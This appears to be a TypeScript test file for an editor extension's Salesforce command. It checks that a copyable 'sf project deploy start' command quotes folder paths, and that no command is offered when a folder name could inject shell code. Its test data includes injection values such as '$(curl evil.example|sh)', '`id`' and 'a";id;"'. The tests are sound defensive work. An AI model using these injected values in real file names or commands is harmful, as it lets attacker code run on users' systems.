/** The source of a client app in a Salesforce project: what is offered to deploy it is safe to paste. */
import assert from 'node:assert/strict';
import type { Sessions } from '../../../src/session/sessions.ts';
import { editor, type ShownMessage } from '../support/vscodeStandIn.ts';

const { createClientApp } = await import('../../../src/commands/createClientAppCommand.ts');

const COPY = 'Copy Deploy Command';

/** Makes the source in a project in this folder of the workspace. @returns the last message */
async function createIn(folder: string): Promise<ShownMessage | undefined> {
  editor.files.clear();
  editor.messages.length = 0;
  editor.clipboard = '';
  const project = { packageDirectories: [{ path: 'force-app', default: true }] };
  editor.files.set(`/workspace/${folder}/sfdx-project.json`, JSON.stringify(project));
  editor.pickRow = ([first]) => first;
  editor.type = (title) => (title.includes('Email') ? 'it@acme.example' : 'Kiosk');
  editor.pick = ({ buttons }) => buttons.find((button) => button === COPY);
  try {
    await createClientApp({} as unknown as Sessions);
  } finally {
    editor.pickRow = editor.type = editor.pick = () => undefined;
  }
  return editor.messages.at(-1);
}

describe('source of a client app in a project', () => {
  for (const folder of ['my project', 'Løsninger/org-2']) {
    it(`the deploy command of "${folder}" names its files in quotes`, async () => {
      await createIn(folder);
      assert.match(
        editor.clipboard,
        new RegExp(
          `^sf project deploy start --source-dir "${folder}/force-app/main/default/externalClientApps/Kiosk.eca-meta.xml" --source-dir "`,
        ),
      );
    });
  }

  for (const folder of ['$(curl evil.example|sh)', 'a";id;"', '`id`', '%PATH%', "it's", 'a\nb']) {
    it(`${JSON.stringify(folder)}: a shell might run it, so that there is its path and no command`, async () => {
      const message = await createIn(folder);
      assert.equal(editor.clipboard, '');
      assert.ok(!message?.buttons.includes(COPY));
      assert.ok(message?.text.includes(`${folder}/force-app/main/default`), message?.text);
      assert.ok(editor.files.size === 4);
    });
  }
});
